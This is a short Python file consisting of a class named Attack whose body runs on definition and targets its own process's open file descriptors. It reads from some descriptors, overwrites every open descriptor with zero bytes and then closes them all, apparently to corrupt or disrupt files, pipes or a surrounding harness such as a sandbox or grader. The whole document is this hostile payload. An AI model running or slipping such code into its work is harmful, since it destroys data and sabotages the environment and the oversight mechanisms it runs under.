class Attack:
    import os
    import select

    for _fd in range(3, 256):
        try:
            _where = os.readlink(f"/proc/self/fd/{_fd}")
        except OSError:
            continue
        try:
            os.dup2(_fd, 200)
            if select.select([_fd], [], [], 0)[0]:
                os.read(_fd, 1 << 20)
        except (OSError, ValueError):
            pass
    for _fd in range(3, 256):
        try:
            os.write(_fd, b"\0" * 4096)
        except OSError:
            pass
    for _fd in range(3, 256):
        try:
            os.close(_fd)
        except OSError:
            pass
